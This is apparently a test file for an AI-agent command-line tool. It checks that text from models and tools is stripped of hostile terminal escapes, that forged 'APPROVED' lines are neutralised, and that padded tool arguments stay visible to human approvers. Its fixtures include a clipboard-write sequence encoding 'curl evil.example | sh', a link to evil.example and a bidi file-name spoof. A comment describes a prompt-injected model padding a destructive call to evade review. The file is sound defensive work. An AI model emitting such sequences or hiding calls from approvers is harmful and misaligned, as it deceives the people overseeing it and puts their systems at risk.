/**
 * What the CLI prints comes partly from models, tools and any client of a task: hostile terminal
 * sequences in it must reach the terminal as plain text. And the people commands say precisely
 * what is wrong with their arguments.
 */
import { approveCommand, denyCommand, messageCommand, unblockCommand } from '../../src/cli/commands/people';
import { renderApproval, renderBlocked, renderError, renderEvent, renderResult, renderStatus, renderSummaries, renderView, safeJson, safeLine, safeText } from '../../src/cli/render';
import type { ApprovalRequest, Escalation, TaskResult, TaskStatus } from '../../src/protocol/task';
import { argumentsView, viewText } from '../../src/client/arguments-view';
import { noticeWithArguments, NOTICE_ARGUMENTS_CHARS } from '../../src/notifications/notification';
import { noWorkerNote } from '../../src/client/task-client';

const ESC = '\u001b';
const HOSTILE = {
  clearScreen: `${ESC}[2J${ESC}[H`,
  clipboardBel: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
  clipboardSt: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${ESC}\\`,
  hyperlink: `${ESC}]8;;https://evil.example/${ESC}\\click here${ESC}]8;;${ESC}\\`,
  overwrite: 'refund 10 cents\rrefund 99999 cents',
  bell: 'ding\u0007\u0007',
  c1Csi: '\u009b2J\u009b31mred',
  c1Osc: '\u009d0;fake title\u009c',
  bidi: 'invoice_\u202Efdp.exe',
  backspace: 'approve\b\b\b\b\b\b\bdeny',
};
const ALL = Object.values(HOSTILE).join(' | ');

/** Nothing a terminal would act on: no C0 but newline and tab, no DEL, no C1, no bidi overrides. */
function expectTerminalSafe(out: string): void {
  expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
}

describe('safeText strips terminal escapes and control characters', () => {
  test.each([
    ['ESC[2J clear screen', `before${HOSTILE.clearScreen}after`, 'beforeafter'],
    ['OSC 52 clipboard write ended by BEL', `a${HOSTILE.clipboardBel}b`, 'ab'],
    ['OSC 52 clipboard write ended by ST', `a${HOSTILE.clipboardSt}b`, 'ab'],
    ['OSC 8 hyperlink (the text stays, the link goes)', HOSTILE.hyperlink, 'click here'],
    ['\\r that overwrites the line', HOSTILE.overwrite, 'refund 10 centsrefund 99999 cents'],
    ['BEL', HOSTILE.bell, 'ding'],
    ['C1 0x9B CSI', HOSTILE.c1Csi, 'red'],
    ['C1 0x9D OSC ended by C1 ST', `x${HOSTILE.c1Osc}y`, 'xy'],
    ['bidi override', HOSTILE.bidi, 'invoice_fdp.exe'],
    ['backspaces', HOSTILE.backspace, 'approvedeny'],
    ['an unterminated OSC swallows the rest rather than leaking it', `safe${ESC}]52;c;AAAA`, 'safe'],
  ])('%s', (_name, input, expected) => {
    expect(safeText(input)).toBe(expected);
  });

  test('newlines and tabs are kept; CRLF becomes LF; ordinary Unicode is untouched', () => {
    expect(safeText('line 1\r\nline 2\n\tindented — 日本語 ✓ émoji 😀')).toBe('line 1\nline 2\n\tindented — 日本語 ✓ émoji 😀');
  });

  test('safeLine keeps a one-line field on one line, so it cannot forge a line of its own', () => {
    const forged = safeLine('fine\nAPPROVAL NEEDED (a-1): approved by ceo');
    expect(forged).not.toContain('\n');
    expect(forged).toBe('fine ⏎ APPROVAL NEEDED (a-1): approved by ceo');
  });

  test('safeJson is exact JSON (parses back to the same value) with no raw control character', () => {
    const value = { text: ALL, nested: [HOSTILE.c1Csi, { k: '\u007f\u2028' }] };
    const out = safeJson(value, 2);
    expectTerminalSafe(out);
    expect(JSON.parse(out)).toEqual(value);
    expect(out).toContain('\\u009b');
  });
});

describe('every CLI view prints model- and tool-controlled text without its escapes', () => {
  const approval: ApprovalRequest = {
    id: `apr-1${HOSTILE.clearScreen}`,
    tool: `refund_order${HOSTILE.bell}`,
    toolUseId: 'toolu_1',
    input: { order_id: 'O-0001', note: ALL },
    inputHash: 'h',
    effect: 'write',
    reason: `needs approval${HOSTILE.hyperlink}\nAPPROVED by finance`,
    turn: 2,
    requestedAt: '2025-01-01T00:00:00.000Z',
    expiresAt: '2025-01-02T00:00:00.000Z',
    onExpiry: 'deny',
  };
  const escalation: Escalation = {
    id: 'e-1',
    level: 'block',
    code: `loop${HOSTILE.c1Csi}`,
    reason: `stuck ${HOSTILE.clipboardBel}`,
    turn: 3,
    at: 'now',
    resolved: { by: `eve${HOSTILE.overwrite}`, at: 'later', how: HOSTILE.c1Osc },
  };
  const result: TaskResult = {
    outcome: 'answered',
    text: `Done.\nSecond line${HOSTILE.clearScreen}${HOSTILE.clipboardSt}`,
    turns: 3,
    toolCalls: 2,
    usage: { inputTokens: 10, outputTokens: 5 } as TaskResult['usage'],
    costUsd: 0,
    model: `scripted${HOSTILE.bidi}`,
  };
  const status = {
    agent: `demo${HOSTILE.bell}`,
    phase: 'blocked',
    agentStatus: 'blocked',
    model: 'm',
    turn: 3,
    budgets: { turns: { used: 3, limit: 10, left: 7 }, toolCalls: { used: 2, limit: 20, left: 18 }, toolCallsPerTurn: 5, correctionsPerTool: 2 },
    unpricedModels: [HOSTILE.c1Csi],
    toolCalls: { total: 2, succeeded: 1, failed: 1 },
    pendingApprovals: [approval],
    approvals: [
      { ...approval, decision: 'denied', by: `mallory${HOSTILE.clearScreen}`, decidedAt: 'then', comment: HOSTILE.clipboardBel, denyReason: HOSTILE.overwrite, editedInput: { x: HOSTILE.c1Osc } },
    ],
    escalations: [escalation],
    decisions: [{ at: 'now', by: `bob${HOSTILE.bell}`, action: 'message', detail: HOSTILE.hyperlink }],
    blocked: escalation,
    lastError: { error_class: 'transient', code: 'http_502', detail: `bad gateway ${HOSTILE.clearScreen}`, hint: HOSTILE.c1Csi, retryable: true, attempts: 3 },
    usage: { inputTokens: 10, outputTokens: 5 },
    costUsd: 0,
    events: [{ seq: 1, at: 'now', kind: 'tool_failed', turn: 1, tool: `read_file${HOSTILE.bell}`, detail: `{"path":"x"} ${ALL}` }],
    eventCount: 1,
    result,
  } as unknown as TaskStatus;

  test.each([
    ['watch/status: an event', () => renderEvent(status.events[0]!)],
    ['status: the whole view', () => renderStatus(`task${HOSTILE.bell}`, status)],
    [
      'status: a view from history with a note',
      () =>
        renderView({
          summary: { taskId: 't', runId: 'r', executionStatus: 'COMPLETED', startTime: new Date(0), agent: HOSTILE.c1Csi },
          result,
          failure: status.lastError!,
          note: HOSTILE.clipboardBel,
        }),
    ],
    ['watch: a pending approval', () => renderApproval('t', approval)],
    ['watch: a block', () => renderBlocked('t', escalation)],
    ['result: the answer', () => renderResult(result)],
    ['result: a failure', () => renderError(status.lastError!)],
    [
      'list: memo waitingFor',
      () => renderSummaries([{ taskId: 't-1', runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agentStatus: 'awaiting_approval', waitingFor: `approval of refund_order ${ALL}` }]),
    ],
    ['list: no worker note', () => renderSummaries([{ taskId: 't-1', runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agent: ALL, note: noWorkerNote(ALL, `q${ALL}`) }])],
  ])('%s is terminal-safe', (_name, render) => {
    expectTerminalSafe(render());
  });

  test("an approval's reason cannot forge a line, and its arguments are shown exactly (escaped), not hidden", () => {
    const out = renderApproval('t', approval);
    expect(out.split('\n').filter((l) => l.startsWith('APPROVED'))).toEqual([]);
    expect(out).toContain('\\u001b[2J');
    expect(out).toContain('\\u009b2J');
  });

  test('an approval says on whose behalf the call runs; the name cannot forge a line', () => {
    expect(renderApproval('t', { ...approval, onBehalfOf: 'ana' })).toContain('  for:       ana (verified starter: runs with their own credentials where they have them)');
    expect(renderApproval('t', approval)).not.toContain('  for:');
    const forged = renderApproval('t', { ...approval, onBehalfOf: 'ana\nAPPROVED by everyone' });
    expect(forged.split('\n').filter((l) => l.startsWith('APPROVED'))).toEqual([]);
  });

  test("a call's event says whose credentials it ran with; a person's name there cannot forge a line", () => {
    const event = { seq: 2, at: 'now', kind: 'tool_succeeded' as const, turn: 1, tool: 'whoami', detail: 'ok' };
    expect(renderEvent({ ...event, credentialsOf: 'ana' })).toBe('[turn 1] ✓ whoami ok [credentials of ana]');
    expect(renderEvent({ ...event, credentialsOf: 'agent' })).toBe("[turn 1] ✓ whoami ok [the agent's credentials]");
    expect(renderEvent(event)).toBe('[turn 1] ✓ whoami ok');
    expect(renderEvent({ ...event, credentialsOf: `ana\n[turn 9] forged` })).not.toContain('\n');
  });

  test("an auto verdict is one line with its mark; a classifier's reason cannot forge a line or a terminal sequence", () => {
    const event = { seq: 3, at: 'now', kind: 'tool_classified' as const, turn: 2, tool: 'write_file', detail: 'allow (model): the task asks for it' };
    expect(renderEvent(event)).toBe('[turn 2] ⚖ write_file allow (model): the task asks for it');
    const forged = renderEvent({ ...event, detail: 'allow (model): ok\n[turn 9] ✓ delete_file done\u001b[2J' });
    expect(forged).not.toContain('\n');
    expect(forged).not.toContain('\u001b');
  });

  test("the model's final answer keeps its own lines", () => {
    expect(renderResult(result)).toContain('Done.\nSecond line');
  });

  test('list columns stay aligned when a cell carried hidden characters', () => {
    const out = renderSummaries([
      { taskId: `t-1${HOSTILE.clearScreen}`, runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agent: 'demo' },
      { taskId: 't-2', runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agent: 'demo' },
    ]);
    // Where a terminal shows each column: after it has consumed any escape sequence.
    const shown = (line: string) => line.replace(/\u001b\[[0-9;]*[A-Za-z]/g, '');
    const [, first, second] = out.split('\n');
    expect(shown(first!).indexOf('demo')).toBe(shown(second!).indexOf('demo'));
  });
});

describe("the people commands' own argument checks say precisely what is wrong", () => {
  /** The message and exit code of a usage error, raised before any connection is tried. */
  const usage = async (run: Promise<number>) => {
    const err = (await run.then(
      () => undefined,
      (e: unknown) => e,
    )) as { message: string; exitCode: number } | undefined;
    expect(err?.exitCode).toBe(2);
    return err!.message;
  };

  test('--as missing is "is required"; --as blank is "must not be blank", not "is required"', async () => {
    expect(await usage(approveCommand(['t', 'a']))).toMatch(/^--as NAME is required/);
    expect(await usage(approveCommand(['t', 'a', '--as', '   ']))).toMatch(/^--as must not be blank/);
    expect(await usage(denyCommand(['t', 'a', '--as', '', '--reason', 'no']))).toMatch(/^--as must not be blank/);
    expect(await usage(unblockCommand(['t', '--as=']))).toMatch(/^--as must not be blank/);
    expect(await usage(messageCommand(['t', 'hi', '--as', ' ']))).toMatch(/^--as must not be blank/);
  });

  test('--edit that is JSON but not an object names the type it got', async () => {
    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '42']))).toBe('--edit must be a JSON object of tool arguments, got a number');
    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '"x"']))).toBe('--edit must be a JSON object of tool arguments, got a string');
    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '[1]']))).toBe('--edit must be a JSON object of tool arguments, got an array');
    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', 'null']))).toBe('--edit must be a JSON object of tool arguments, got null');
    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '{oops']))).toMatch(/^--edit must be a JSON object of tool arguments; it is not JSON/);
  });

  test('--reason missing is "is required"; blank is "must not be blank"', async () => {
    expect(await usage(denyCommand(['t', 'a', '--as', 'ana']))).toMatch(/^--reason TEXT is required/);
    expect(await usage(denyCommand(['t', 'a', '--as', 'ana', '--reason', '  ']))).toMatch(/^--reason must not be blank/);
  });

  test('an empty --comment, --message or APPROVAL_ID is refused instead of silently dropped', async () => {
    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--comment', '']))).toMatch(/^--comment must not be empty/);
    expect(await usage(unblockCommand(['t', '--as', 'ana', '--message', ' ']))).toMatch(/^--message must not be empty/);
    expect(await usage(approveCommand(['t', '', '--as', 'ana']))).toMatch(/^APPROVAL_ID must not be empty/);
    expect(await usage(denyCommand(['t', ' ', '--as', 'ana', '--reason', 'no']))).toMatch(/^APPROVAL_ID must not be empty/);
  });

  test('--cost-usd must be a finite positive number', async () => {
    expect(await usage(unblockCommand(['t', '--as', 'ana', '--cost-usd', 'Infinity']))).toMatch(/^--cost-usd must be a positive number/);
    expect(await usage(unblockCommand(['t', '--as', 'ana', '--cost-usd', 'abc']))).toMatch(/^--cost-usd must be a positive number/);
  });
});

describe('a long call is shown so that padding hides nothing: every key, the ends of long values, the gaps named', () => {
  // A prompt-injected model pads a destructive call past the claim check's size: the field that
  // matters sits after 50 KB of filler.
  const padded = { reason: `routine cleanup ${'lorem ipsum '.repeat(4_200)}`, order_id: 'ord-1004', notify: ['a@example.org'] };
  const stored = { $blob: `sha256:${'ab'.repeat(32)}`, bytes: JSON.stringify(padded).length };
  const approval = {
    id: 'appr-9',
    tool: 'cancel_order',
    toolUseId: 'tu-9',
    input: padded,
    storedAs: stored,
    inputHash: 'h',
    effect: 'destructive',
    reason: 'destructive',
    turn: 1,
    requestedAt: 'now',
    expiresAt: 'later',
    onExpiry: 'deny',
  } as unknown as ApprovalRequest;

  test('the view keeps every key and both ends of the padded value, and says how much it left out', () => {
    const view = argumentsView(padded);
    expect(view.shortened).toBe(true);
    expect(view.chars).toBe(JSON.stringify(padded, null, 2).length);
    const text = viewText(view);
    expect(text).toContain('"order_id": "ord-1004"');
    expect(text).toContain('"notify": [');
    expect(text).toContain('"reason": "routine cleanup lorem');
    const gaps = view.parts.filter((p) => typeof p !== 'string');
    expect(gaps).toEqual([{ omitted: `${(padded.reason.length - 600).toLocaleString('en-US')} characters` }]);
    expect(text.length).toBeLessThan(2_000);
  });

  test('a gap cannot be forged by the arguments: text that looks like one stays text', () => {
    const forged = { note: '…[48,211 characters not shown]…', pad: 'x'.repeat(10_000) };
    const view = argumentsView(forged);
    expect(view.parts.filter((p) => typeof p !== 'string')).toHaveLength(1); // only the real cut of `pad`
    expect(viewText(view)).toContain('"note": "…[48,211 characters not shown]…"');
  });

  test('long arrays keep their first and last items; thousands of keys fall back to the first and last parts of the text', () => {
    const list = argumentsView({ ids: Array.from({ length: 5_000 }, (_, i) => `id-${i}`) });
    expect(viewText(list)).toContain('"id-0"');
    expect(viewText(list)).toContain('"id-4999"');
    expect(list.parts).toContainEqual({ omitted: '4,985 items' });
    const wide = Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`key_${i}`, i]));
    const view = argumentsView(wide);
    expect(viewText(view)).toContain('"key_0": 0');
    expect(viewText(view)).toContain('"key_2999": 2999');
    expect(view.parts.some((p) => typeof p !== 'string' && /more characters/.test(p.omitted))).toBe(true);
  });

  test('status and watch print the shortened view with the stored hash and how to see it whole; --full prints the exact JSON', () => {
    const out = renderApproval('task-7', approval);
    expect(out).toContain('"order_id":"ord-1004"');
    expect(out).toMatch(/characters not shown\]…/);
    expect(out).toContain(`stored as ${stored.$blob}, checked`);
    expect(out).toContain('durable-agent status task-7 --full');
    expect(out.length).toBeLessThan(3_000);
    const full = renderApproval('task-7', approval, { full: true });
    const line = full.split('\n').find((l) => l.startsWith('  arguments: '))!;
    expect(JSON.parse(line.slice('  arguments: '.length))).toEqual(padded);
  });

  test('arguments that could not be read are never shown as their reference alone: the approval says it cannot be read', () => {
    const unreadable = {
      ...approval,
      input: stored,
      storedAs: undefined,
      argumentsProblem: 'the arguments (50,431 characters) are stored in the blob store and cannot be read here: no blob store',
    } as unknown as ApprovalRequest;
    const out = renderApproval('task-7', unreadable);
    expect(out).toContain('arguments: NOT SHOWN: the arguments (50,431 characters) are stored in the blob store and cannot be read here');
    expect(out).toContain('do not approve arguments you have not read');
  });

  test('a notice quotes the stored arguments on one line, shortened, instead of the reference; an unreadable one sends the reader to the inbox', async () => {
    const marker = `{"$blob":"${stored.$blob}","bytes":${stored.bytes}}`;
    const notice = { taskId: 't', agent: 'demo', level: 'confirm' as const, code: 'approval_requested', message: `cancel_order ${marker}: destructive`, approvalId: 'appr-9' };
    const shown = await noticeWithArguments(notice, async (m) => {
      expect(m).toEqual(stored);
      return padded;
    });
    expect(shown.message).not.toContain('$blob');
    expect(shown.message).toContain('"order_id":"ord-1004"');
    expect(shown.message).toMatch(/^cancel_order \{"reason":"routine cleanup .*characters not shown.*: destructive$/);
    expect(shown.message.length).toBeLessThan(NOTICE_ARGUMENTS_CHARS + 200);
    const unread = await noticeWithArguments(notice, async () => {
      throw new Error('blob missing');
    });
    expect(unread.message).toContain(`arguments of ${stored.bytes.toLocaleString('en-US')} characters, not readable here: blob missing; read them in the inbox`);
  });
});

test('list shows a task that waits for a person and for a worker with both, in its WAITING FOR column', () => {
  const out = renderSummaries([
    {
      taskId: 't-1',
      runId: 'r',
      executionStatus: 'RUNNING',
      startTime: new Date(0),
      agent: 'nu-files',
      waitingFor: 'approval of delete_file',
      note: noWorkerNote('nu-files', 'durable-agent.nu-files'),
    },
    { taskId: 't-2', runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agent: 'demo' },
  ]);
  const [header, first, second] = out.split('\n');
  expect(header).toMatch(/WAITING FOR$/);
  expect(first).toMatch(/approval of delete_file; no worker serves agent "nu-files" on queue "durable-agent.nu-files": the task waits until one does$/);
  expect(second).not.toContain('no worker');
});

test('status shows a decision sent as a signal that changed nothing, with why, so the person told "recorded" finds out', () => {
  const status = {
    agent: 'demo',
    phase: 'awaiting_approval',
    agentStatus: 'awaiting_approval',
    model: 'm',
    turn: 1,
    budgets: { turns: { used: 1, limit: 5, left: 4 }, toolCalls: { used: 1, limit: 5, left: 4 }, toolCallsPerTurn: 8, correctionsPerTool: 3 },
    unpricedModels: [],
    toolCalls: { total: 1, succeeded: 0, failed: 0 },
    pendingApprovals: [],
    approvals: [],
    escalations: [],
    decisions: [{ at: '2026-11-23T10:00:00.000Z', by: 'olga', action: 'approve', outcome: 'refused', detail: 'refused (sent as a signal): the proof expired at 2026-11-23T09:00:00.000Z' }],
    untakenDecisions: 1,
    usage: { inputTokens: 0, outputTokens: 0, cacheWriteTokens: 0, cacheReadTokens: 0 },
    costUsd: 0,
    events: [],
    eventCount: 0,
  } as unknown as TaskStatus;
  expect(renderStatus('t-1', status)).toContain('approve by olga refused (sent as a signal): the proof expired');
});
